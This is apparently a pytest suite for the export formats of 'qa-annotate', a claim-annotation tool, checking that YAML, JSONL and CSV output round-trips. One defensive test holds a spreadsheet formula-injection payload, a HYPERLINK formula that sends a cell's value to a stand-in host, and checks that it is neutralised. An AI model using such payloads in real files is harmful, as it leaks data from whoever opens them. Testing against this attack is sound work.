"""Every format writes the same small project, and a reader of that format gets it back."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from qa_annotate.adapters import yaml
from qa_annotate.adapters.codec import from_plain, to_plain
from qa_annotate.core import editing
from qa_annotate.core.editing import Hand, apply
from qa_annotate.core.model import Article, Tool
from qa_annotate.core.records import Claim, Codebook, Document, Evidence
from qa_annotate.formats import WRITERS, Export
from qa_annotate.formats.csv import COLUMNS, harmless
from qa_annotate.formats.exporting import ExportedArticle, exported_article
from qa_annotate.store.project import Opened

NOW = "2026-11-22T10:04:11Z"
TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
EVIDENCE = Evidence(
    id="e1", kind="image", locator="bridge.jpg", bearing="supports", independent="yes"
)
CODINGS: Mapping[str, Mapping[str, str]] = {
    "amal": {"They shelled it.": "allegation", "Nobody crossed since.": "verified"},
    "omar": {"We wait.": "unverified", "They shelled it.": "unverified"},
}


@pytest.fixture(scope="module")
def export(bridge: Opened, empty: Document, codebook: Codebook) -> Export:
    """Amal and Omar on the bridge."""

    def coded(coder: str) -> Document:
        document = replace(empty, coder=coder, finished=coder == "omar", memo=f"By {coder}.")
        hand = Hand(coder=coder, at=NOW, codebook=codebook, outline=bridge.outline)
        for number, (words, label) in enumerate(CODINGS[coder].items()):
            start = bridge.text.index(words)
            new_id = editing.claim_id(number + 32 * len(coder) + ord(coder[0]) * 32**3)
            span = (start, start + len(words))
            edit = editing.label_span(document, span, label, new_id, hand)
            document = apply(document, edit, bridge.text)
        evidenced = [
            replace(c, evidence=(EVIDENCE,), note="See the photo,\nfrom May.")
            if c.label == "verified"
            else c
            for c in document.claims
        ]
        return replace(document, claims=tuple(evidenced))

    article = exported_article(bridge.article, bridge.outline, (coded("amal"), coded("omar")))
    return Export(
        tool=Tool(name="qa-annotate", version="0.1.0"), codebook=codebook, articles=(article,)
    )


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def with_claim(export: Export, change: Callable[[Claim], Claim]) -> Export:
    """The export with its first claim changed."""
    (article,) = export.articles
    first, *rest = article.claims
    claims = (replace(first, claim=change(first.claim)), *rest)
    return replace(export, articles=(replace(article, claims=claims),))


# ---- what stands in an export -------------------------------------------------------------------


def test_claims_stand_in_the_order_of_the_text(export: Export) -> None:
    (article,) = export.articles
    assert [(c.claim.quote, c.coder, c.claim.label, c.question) for c in article.claims] == [
        ("Nobody crossed since.", "amal", "verified", None),
        ("They shelled it.", "amal", "allegation", "What happened?"),
        ("They shelled it.", "omar", "unverified", "What happened?"),
        ("We wait.", "omar", "unverified", "And now?"),
    ]
    assert [(r.coder, r.units_read, r.units, r.finished) for r in article.coders] == [
        ("amal", 2, 7, False),
        ("omar", 2, 7, True),
    ]


def test_pairs_carry_their_words(export: Export) -> None:
    (article,) = export.articles
    assert [(p.id, p.question, p.answer) for p in article.pairs] == [
        ("q1", "What happened?", ("They shelled it. We ran.", "Two died.")),
        ("q2", "And now?", ("We wait.",)),
    ]


# ---- each format --------------------------------------------------------------------------------


def test_yaml_stands_alone(export: Export, bridge: Opened, codebook: Codebook) -> None:
    text = WRITERS["yaml"](export)
    data = yaml.load(text, "export.yaml")
    assert list(data) == ["format", "tool", "codebook", "articles"]
    assert data["format"] == "qa-annotate/export/1"
    assert from_plain(data["codebook"], Codebook) == codebook
    (article,) = data["articles"]
    assert article["custody"] == to_plain(bridge.article.custody)
    assert article["metadata"]["title"] == "The bridge"
    assert article["pairs"][0]["question"] == "What happened?"
    first = article["claims"][1]
    assert (first["label"], first["coder"], first["quote"], first["position"]) == (
        "allegation",
        "amal",
        "They shelled it.",
        [78, 94],
    )
    assert first["decided"] == {"by": "amal", "at": NOW}
    assert first["question"] == "What happened?"
    assert [from_plain(c, Claim) for c in article["claims"]] == [
        c.claim for c in export.articles[0].claims
    ]
    old = YAML(typ="safe", pure=True)
    old.version = (1, 1)
    assert old.load(text) == data


def test_jsonl_is_a_claim_a_line(export: Export, bridge: Opened) -> None:
    lines = WRITERS["jsonl"](export).splitlines()
    told = [json.loads(line) for line in lines]
    assert len(told) == 4
    assert [from_plain(line, Claim) for line in told] == [
        c.claim for c in export.articles[0].claims
    ]
    for line in told:
        assert line["article"] == "bridge"
        assert line["title"] == "The bridge"
        assert line["text_sha256"] == bridge.article.custody.text_sha256
        assert line["codebook"] == {"id": "claims-evidence", "version": "1.0"}
    assert [line["coder"] for line in told] == ["amal", "amal", "omar", "omar"]
    assert [line["finished"] for line in told] == [False, False, True, True]


def test_csv_is_a_claim_a_row(export: Export) -> None:
    found = rows(WRITERS["csv"](export))
    assert tuple(found[0]) == COLUMNS
    assert [
        (r["coder"], r["label"], r["quote"], r["start"], r["end"], r["question"], r["finished"])
        for r in found
    ] == [
        ("amal", "verified", "Nobody crossed since.", "36", "57", "", "no"),
        ("amal", "allegation", "They shelled it.", "78", "94", "What happened?", "no"),
        ("omar", "unverified", "They shelled it.", "78", "94", "What happened?", "yes"),
        ("omar", "unverified", "We wait.", "174", "182", "And now?", "yes"),
    ]
    assert (found[0]["evidence"], found[0]["note"]) == ("bridge.jpg", "See the photo,\nfrom May.")
    assert found[0]["decided_at"] == NOW
    assert found[0]["codebook"] == "claims-evidence 1.0"
    assert found[0]["title"] == "The bridge"


def test_csv_ends_its_lines_as_the_standard_says(export: Export) -> None:
    text = WRITERS["csv"](export)
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    assert text.endswith("\r\n")


# ---- spreadsheets -------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(export: Export, start: str) -> None:
    evil = f'{start}HYPERLINK("http://x/?"&A1,"open")'
    told = with_claim(
        export, lambda c: replace(c, quote=evil, note=evil, speaker=evil, label=evil, reason=evil)
    )
    first = rows(WRITERS["csv"](told))[0]
    for column in ("quote", "note", "speaker", "label", "reason"):
        assert first[column] == f"'{evil}"


@settings(max_examples=80)
@given(TEXT, TEXT, TEXT)
def test_every_cell_parses_back_and_is_harmless(
    export: Export, quote: str, note: str, speaker: str
) -> None:
    told = with_claim(
        export, lambda c: replace(c, quote=quote, note=note, speaker=speaker, against=quote)
    )
    found = rows(WRITERS["csv"](told))
    assert len(found) == 4
    first = found[0]
    assert (first["quote"], first["note"], first["speaker"], first["against"]) == tuple(
        map(harmless, (quote, note, speaker, quote))
    )
    for row in found:
        assert not any(
            cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values() if cell
        )


# ---- any text -----------------------------------------------------------------------------------


@settings(max_examples=60)
@given(TEXT, TEXT, st.dictionaries(TEXT, TEXT, max_size=2))
def test_any_text_comes_back_from_yaml_and_json(
    export: Export, quote: str, note: str, gloss: dict[str, str]
) -> None:
    told = with_claim(export, lambda c: replace(c, quote=quote, note=note, gloss=gloss))
    claim = told.articles[0].claims[0].claim
    data = yaml.load(WRITERS["yaml"](told), "export.yaml")
    assert from_plain(data["articles"][0]["claims"][0], Claim) == claim
    lines = WRITERS["jsonl"](told).splitlines()
    assert len(lines) == 4
    assert from_plain(json.loads(lines[0]), Claim) == claim


@pytest.mark.parametrize("form", WRITERS)
def test_nothing_recorded_is_written_too(export: Export, form: str) -> None:
    nobody = replace(export.articles[0], coders=(), claims=())
    text = WRITERS[form](replace(export, articles=(nobody,)))
    if form == "yaml":
        assert yaml.load(text, "")["articles"][0]["claims"] == []
    elif form == "prov":
        assert not re.search("qa:(claim|decision)/", text)
    else:
        assert text == ("" if form == "jsonl" else ",".join(COLUMNS) + "\r\n")


def test_an_article_with_several_respondents(bridge: Opened) -> None:
    pairs = tuple(replace(p, respondent=("Amal", "Omar")) for p in bridge.article.pairs)
    article: Article = replace(bridge.article, pairs=pairs)
    told: ExportedArticle = exported_article(article, bridge.outline, ())
    plain: Any = to_plain(told)
    assert plain["pairs"][0]["respondent"] == ["Amal", "Omar"]
